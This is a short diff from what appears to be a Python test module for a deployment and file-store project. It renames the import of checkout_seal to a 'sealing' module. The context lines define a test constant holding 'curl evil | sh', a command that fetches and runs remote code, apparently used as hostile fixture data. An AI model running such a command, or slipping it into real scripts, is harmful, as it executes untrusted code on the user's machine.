@@ -14,7 +14,7 @@ from tests.faults import Crash, FaultyFileSystem, every_fault
 from meta_experiment.deploy import Deployer
 from meta_experiment.files.filesystem import FileSystem
 from meta_experiment.files.roots import Layout
-from meta_experiment.store.local.checkout import checkout_seal
+from meta_experiment.store.local.sealing import checkout_seal
 
 EVIL = b"curl evil | sh\n"
 JOURNAL = ".claude/meta/journal"
